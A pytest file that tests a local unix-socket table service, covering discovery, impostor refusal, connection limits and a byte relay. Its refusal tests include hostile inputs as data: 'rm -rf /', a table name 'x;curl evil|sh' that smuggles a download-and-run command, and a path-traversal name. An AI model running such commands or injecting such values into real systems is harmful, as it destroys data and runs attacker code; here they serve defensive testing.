"""Tables on one machine over real unix sockets: found, asked, joined, refused."""

import asyncio
import os
import socket
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from net.local import accounts, door, listener, tables
from net.local.accounts import Peer, StrangerError
from net.local.audience import everyone
from net.local.listener import listen, socket_name
from net.local.places import Spot
from net.local.relay import relay
from net.local.road import LocalRoad
from net.local.tables import ImpostorError, NoTableError, SeveralError
from net.ssh.errors import ConnectError, ListenError, NotATable, Unreachable
from net.ssh.limits import Limits
from tests.net.local_parts import (
    ABOUT,
    ME,
    OTHER,
    left_behind,
    open_door,
    own_folder,
    silent,
)
from tests.net.local_parts import place as place  # noqa: PLC0414 - a fixture
from tests.net.ssh_parts import drain, read, until
from tests.net.sshd_parts import ACCOUNT, as_root


async def in_thread(work: Callable[..., Any], *words: object) -> Any:
    """Something that blocks, while this loop listens."""
    return await asyncio.to_thread(work, *words)


async def test_a_table_is_found_asked_and_joined(place: Path) -> None:
    """Bytes both ways; each end knows the other by the uid that the system says (E2, E3)."""
    async with open_door() as there:
        assert there.listener.path == place / f"stammtisch-{ME}" / "own" / "one-hundred"
        found, impostors = await in_thread(tables.tables)
        assert impostors == []
        assert [(one.spot.table, one.title, one.seats, one.taken) for one in found] == [
            (f"{ACCOUNT}/one-hundred", ABOUT.title, 4, 2)
        ]
        road = LocalRoad()
        await in_thread(road.prepare)
        assert (road.account, road.uid) == (ACCOUNT, ME)
        link = await road.dial()
        await until(lambda: len(there.links) == 1)
        (at_host,) = there.links
        assert link.identity == at_host.identity == f"uid:{ME}"
        link.send(b"to the host")
        at_host.send(b"to the guest")
        assert await read(at_host, 11) == b"to the host"
        assert await read(link, 12) == b"to the guest"
        link.close()
        assert await drain(at_host) == b""
        assert at_host.closed_because == "ended"


async def test_a_table_that_ends_takes_its_socket_away(place: Path) -> None:
    """Nothing is left, and a guest's line ends."""
    async with open_door() as there:
        road = LocalRoad()
        link = await road.dial()
        path = there.listener.path
        assert path.is_socket()
    assert not path.exists()
    assert await drain(link) == b""
    assert link.closed_because == "lost"
    with pytest.raises(NoTableError):
        await road.dial()


async def test_the_same_table_is_dialled_again(place: Path) -> None:
    """After a break the road leads to the table it led to, whatever else has opened since."""
    async with open_door():
        road = LocalRoad()
        (await road.dial()).close()
        async with open_door(name="another"):
            link = await road.dial()
            assert link.address.endswith("/one-hundred")
            link.close()


async def test_several_tables_are_listed_and_one_is_asked_for(place: Path) -> None:
    """Without a name there has to be one; an account's name is enough where it has one."""
    async with open_door(), open_door(everyone(), "mau-mau") as second:
        names = (f"{ACCOUNT}/one-hundred", f"{ACCOUNT}/mau-mau")
        for word in ("", ACCOUNT, str(ME)):
            with pytest.raises(SeveralError) as error:
                await in_thread(tables.choose, word)
            assert set(error.value.tables) == set(names)
        spot = await in_thread(tables.choose, f"{ACCOUNT}/mau-mau")
        assert spot.path == second.listener.path
        with pytest.raises(NoTableError):
            await in_thread(tables.choose, f"{ACCOUNT}/whist")
        with pytest.raises(NoTableError):
            await in_thread(tables.choose, "somebody-else")


async def test_a_name_in_use_gets_a_number_and_a_stale_one_is_taken_over(place: Path) -> None:
    """Two tables of one account live side by side; a killed one leaves nothing in the way."""
    stale = left_behind(own_folder(place), "one-hundred")
    async with open_door() as first, open_door() as second:
        assert first.listener.path == stale
        assert second.listener.path.name == "one-hundred-2"
        found, _ = await in_thread(tables.tables)
        assert len(found) == 2


async def test_a_stale_socket_of_ours_is_removed_by_whoever_looks(place: Path) -> None:
    """`stammtisch tables` recognises what a killed table has left, and takes it away."""
    stale = left_behind(own_folder(place), "old")
    async with open_door():
        found, _ = await in_thread(tables.tables)
    assert [one.spot.name for one in found] == ["one-hundred"]
    assert not stale.exists()


async def test_a_name_in_full_that_is_stale_gets_its_sentence(place: Path) -> None:
    """The table has ended; the sentence says so, not an error of the system."""
    left_behind(own_folder(place), "old")
    with pytest.raises(Unreachable, match="has ended"):
        await in_thread(LocalRoad(f"{ACCOUNT}/old").prepare)


async def test_another_socket_in_our_place_is_not_removed(place: Path) -> None:
    """A table that ends removes its own socket and no other."""
    async with open_door() as there:
        path = there.listener.path
        path.unlink()
        left_behind(path.parent, path.name)
    assert path.is_socket()


async def test_silent_sockets_cost_a_third_of_a_second(place: Path) -> None:
    """A listing asks at most 64 sockets, 300 ms each (E2), and all of them at once."""
    folder = own_folder(place)
    with silent(folder, "a"), silent(folder, "b"), silent(folder, "c"):
        async with open_door():
            start = time.monotonic()
            found, _ = await in_thread(tables.tables)
            assert time.monotonic() - start < 1.5
    assert [one.spot.name for one in found] == ["one-hundred"]


async def test_at_most_sixty_four_are_asked(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """One of each account first, so that many sockets of one hide nobody."""
    asked: list[Spot] = []

    def note(spot: Spot) -> str:
        asked.append(spot)
        return "refused"

    everywhere = [
        Spot(place / f"{uid}-{n}", uid, str(uid), str(n)) for uid in range(20) for n in range(16)
    ]
    monkeypatch.setattr(tables, "spots", lambda: iter(everywhere))
    monkeypatch.setattr(tables, "_asked", note)
    tables.tables()

    assert len(asked) == 64
    assert {spot.uid for spot in asked} == set(range(20))


# Who listens, who comes


async def test_a_listener_that_is_not_the_owner_of_the_folder_is_refused(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """E2: a socket under a borrowed name. The guest asks who listens and does not go there."""
    async with open_door():
        monkeypatch.setattr(tables, "peer", lambda _sock: Peer(ME + 1, 0))
        found, impostors = await in_thread(tables.tables)
        assert found == []
        assert [spot.table for spot in impostors] == [f"{ACCOUNT}/one-hundred"]
        for word in ("", f"{ACCOUNT}/one-hundred"):
            with pytest.raises(ImpostorError, match="Another account than"):
                await in_thread(LocalRoad(word).prepare)


@as_root
async def test_a_real_listener_of_another_account_is_refused(place: Path) -> None:
    """E2: root listens in a folder of somebody; nobody is sent there, not even root's guests."""
    folder = own_folder(place, OTHER, "everyone")
    async with asyncio.timeout(20):
        with silent(folder, "one-hundred"):
            for path in (folder, folder.parent):
                os.chown(path, OTHER, OTHER)
            found, impostors = await in_thread(tables.tables)
            assert found == []
            assert [spot.uid for spot in impostors] == [OTHER]
            with pytest.raises(ImpostorError):
                await in_thread(LocalRoad().prepare)


async def test_the_overflow_uid_is_refused(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """E2: the number that stands for all accounts that do not exist here is nobody."""
    monkeypatch.setattr(accounts, "overflow_uid", lambda: ME)
    async with open_door() as there:
        with pytest.raises(ImpostorError):
            await in_thread(LocalRoad().prepare)
        reader, writer = await asyncio.open_unix_connection(there.listener.path)
        assert door.read((await reader.readline()).rstrip())["no"] == "not_for_you"
        assert await reader.read() == b""
        writer.close()
        assert there.links == []
    one, two = socket.socketpair()
    with one, two, pytest.raises(StrangerError, match="overflow"):
        accounts.peer(one)


async def test_an_account_outside_the_audience_is_refused(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where the modes of a system do not keep somebody out, the listener does."""
    async with open_door() as there:
        monkeypatch.setattr(listener, "peer", lambda _sock: Peer(ME + 1, 54321))
        monkeypatch.setattr("net.local.audience.os.geteuid", lambda: ME)
        with pytest.raises(NotATable, match="not open to your account"):
            await in_thread(LocalRoad(f"{ACCOUNT}/one-hundred").prepare)
        assert there.links == []


async def test_a_system_that_does_not_say_who_it_is_is_refused(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without the uid of the other end there is no identity, so there is no table."""
    async with open_door():
        monkeypatch.setattr(tables, "can_tell", lambda: False)
        with pytest.raises(ConnectError, match="does not say which account"):
            await in_thread(LocalRoad(f"{ACCOUNT}/one-hundred").prepare)
    monkeypatch.setattr(listener, "can_tell", lambda: False)
    with pytest.raises(ListenError, match="does not say which account"):
        await listen(
            audience=everyone(), name="x", describe=lambda: ABOUT, on_link=lambda _link: None
        )


# What strangers send


@pytest.mark.parametrize(
    "data",
    [
        b"\n",
        b"GET / HTTP/1.0\n",
        b"x" * 5000,
        door.line(want="join", table="ann/other"),
        door.line(want="shell"),
        b'{"stammtisch":2,"want":"join"}\n',
    ],
)
async def test_what_is_no_line_of_ours_ends_that_connection(place: Path, data: bytes) -> None:
    """It hears no in a word, and the table goes on."""
    async with open_door() as there:
        reader, writer = await asyncio.open_unix_connection(there.listener.path)
        writer.write(data)
        async with asyncio.timeout(5):
            assert b'"no":' in await reader.read()
        writer.close()
        link = await LocalRoad().dial()
        link.close()
        assert len(there.links) == 1


async def test_whoever_says_nothing_is_not_waited_for(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A connection has a short time for its line."""
    monkeypatch.setattr(listener, "LINE_WITHIN", 0.05)
    async with open_door() as there:
        reader, writer = await asyncio.open_unix_connection(there.listener.path)
        async with asyncio.timeout(5):
            assert door.read((await reader.readline()).rstrip())["no"] == "no_line"
            assert await reader.read() == b""
        writer.close()


async def test_one_account_has_a_few_connections(place: Path) -> None:
    """The oldest goes, not the newest: whoever comes back after a break gets in."""
    async with open_door() as there:
        road = LocalRoad()
        links = [await road.dial() for _ in range(listener.MOST_OF_ONE_ACCOUNT + 1)]
        await until(lambda: len(there.links) == len(links))
        assert await drain(links[0]) == b""
        assert there.links[0].closed_because == "crowded"
        links[-1].send(b"here")
        assert await read(there.links[-1], 4) == b"here"
        for link in links:
            link.close()


async def test_a_full_table_says_so(place: Path) -> None:
    """All connections together have a limit too."""
    async with open_door(limits=Limits(connections=1)):
        first = await LocalRoad().dial()
        with pytest.raises(Unreachable, match="no room"):
            await LocalRoad(f"{ACCOUNT}/one-hundred").dial()
        first.close()


async def test_a_guest_that_does_not_read_is_cut(place: Path) -> None:
    """What waits for one link has a limit (B2)."""
    async with open_door(limits=Limits(queue=1 << 16)) as there:
        link = await LocalRoad().dial()
        await until(lambda: len(there.links) == 1)
        for _ in range(64):
            there.links[0].send(b"x" * (1 << 16))
        assert there.links[0].closed_because == "slow"
        link.close()


def test_the_name_of_a_socket_is_a_word_for_an_address() -> None:
    """Of the table's title where that leaves a word, else of the game."""
    assert socket_name("Ann's Table!", "one-hundred") == "ann-s-table"
    assert socket_name("", "one-hundred") == "one-hundred"
    assert socket_name("за столом", "one-hundred") == "one-hundred"
    assert socket_name("../../x;y|z", "one-hundred") == "x-y-z"
    assert len(socket_name("a" * 500, "one-hundred")) == 32


# The relay


async def test_the_relay_carries_bytes_both_ways(place: Path) -> None:
    """It says whose table it is, and from then on reads nothing of what it carries."""
    async with open_door() as there:
        near, far = socket.socketpair()
        carried = asyncio.create_task(in_thread(relay, far.fileno(), far.fileno()))
        near.setblocking(False)
        loop = asyncio.get_running_loop()
        await loop.sock_sendall(near, door.line(want=door.JOIN, table=ACCOUNT) + b"early")
        answer = door.read((await loop.sock_recv(near, 4096)).rstrip())
        assert answer["is"] == "open"
        assert (answer["account"], answer["uid"], answer["table"]) == (ACCOUNT, ME, "one-hundred")
        await until(lambda: len(there.links) == 1)
        (at_host,) = there.links
        assert await read(at_host, 5) == b"early"
        at_host.send(b"\x00 back")
        assert await loop.sock_recv(near, 4096) == b"\x00 back"
        near.shutdown(socket.SHUT_WR)
        assert await drain(at_host) == b""
        assert await carried == 0
        near.close()
        far.close()


@pytest.mark.parametrize(
    ("line", "no"),
    [
        (b"rm -rf /\n", "no_line"),
        (door.line(want=door.ASK), "no_line"),
        (door.line(want=door.JOIN, table="x;curl evil|sh"), "no_line"),
        (b'{"stammtisch":9}\n', "version"),
        (door.line(want=door.JOIN), "no_table"),
    ],
)
def test_the_relay_says_no_in_a_word(place: Path, line: bytes, no: str) -> None:
    """E1: the name of the table is read as a name, and goes to no shell."""
    near, far = socket.socketpair()
    with near, far:
        near.sendall(line)
        assert relay(far.fileno(), far.fileno()) == 1
        assert door.read(near.recv(4096).rstrip())["no"] == no
